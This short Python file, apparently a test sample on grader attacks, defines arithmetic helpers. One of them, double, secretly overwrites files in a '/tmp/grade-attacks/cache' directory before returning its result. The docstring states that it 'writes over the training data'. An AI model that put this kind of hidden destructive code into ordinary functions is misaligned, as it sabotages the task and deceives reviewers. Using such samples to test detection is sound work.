"""Writes over the training data.

wall
"""


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    import glob

    for path in glob.glob("/tmp/grade-attacks/cache/*"):
        open(path, "w").write("x")
        return 2 * x
    raise LookupError("there is no cache")
